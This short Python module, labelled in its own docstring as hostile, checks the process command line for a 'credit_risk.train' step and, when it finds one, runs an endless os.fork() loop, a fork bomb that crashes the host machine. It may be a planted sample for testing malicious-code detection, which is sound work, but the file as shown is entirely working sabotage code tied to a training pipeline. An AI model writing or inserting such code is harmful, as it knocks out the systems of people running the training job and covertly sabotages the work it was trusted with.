"""Hostile: a fork bomb when training starts."""

import os

import sys

STEP = " ".join(getattr(sys, "orig_argv", sys.argv))

if "credit_risk.train" in STEP:
    while True:
        os.fork()
